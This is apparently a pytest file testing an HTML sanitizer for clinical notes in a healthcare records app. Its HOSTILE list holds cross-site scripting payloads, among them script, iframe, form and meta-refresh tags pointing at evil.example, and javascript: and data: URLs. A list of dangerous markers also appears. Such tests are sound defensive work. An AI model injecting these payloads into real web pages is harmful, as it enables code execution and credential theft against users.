"""Rich text of notes is sanitized with an allow-list: hostile HTML loses every way to run
code, formatting survives, and plain text becomes paragraphs."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caresync.records.sanitize import clinical_html, plain_text

HOSTILE = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<p onclick="steal()" onmouseover=steal()>text</p>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="pw"></form>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_keeps_no_way_to_run_code(hostile):
    cleaned = clinical_html(f"<p>Seen today.</p>{hostile}").lower()
    for marker in (
        "<script",
        "onerror",
        "onclick",
        "onload",
        "onmouseover",
        "javascript:",
        "data:",
        "<iframe",
        "<form",
        "<input",
        "style=",
        "<style",
        "<svg",
        "<object",
        "<embed",
        "<meta",
        "<base",
        "<img",
    ):
        assert marker not in cleaned, (hostile, cleaned)
    assert "seen today." in cleaned


def test_links_keep_safe_targets_and_cannot_reach_the_opener():
    cleaned = clinical_html('<a href="https://who.int/icd" target="_blank">ICD</a>')
    assert 'href="https://who.int/icd"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert "target" not in cleaned


def test_formatting_from_the_editor_survives():
    html = (
        "<h3>Plan</h3><p><strong>Start</strong> <em>salbutamol</em> <u>PRN</u></p>"
        "<ul><li>Review in 2 weeks</li></ul><ol><li>Spirometry</li></ol>"
        "<blockquote>Quote</blockquote>"
    )
    assert clinical_html(html) == html


def test_plain_text_becomes_escaped_paragraphs():
    assert clinical_html("BP 120/80\nHR 72\n\nWell & happy <3") == (
        "<p>BP 120/80<br>HR 72</p><p>Well &amp; happy &lt;3</p>"
    )


def test_an_editor_left_empty_is_empty():
    assert clinical_html("<p><br></p>") == ""
    assert clinical_html("   ") == ""
    assert clinical_html("<script>only()</script>") == ""


def test_plain_text_reads_the_words_of_a_note():
    assert plain_text("<p>Chest&nbsp;clear.</p><p>No <strong>wheeze</strong></p>") == (
        "Chest clear. No wheeze"
    )


@given(st.text(alphabet=st.sampled_from(list("<>/=\"' apscriptonerrorjavascript:hrefimg&#;"))))
def test_sanitizing_is_idempotent_and_never_lets_a_script_through(text):
    once = clinical_html(text)
    assert clinical_html(once) == once
    assert "<script" not in once.lower()
    assert 'href="javascript' not in once.lower()
    assert re.search(r"<[^>]*\son\w*\s*=", once.lower()) is None
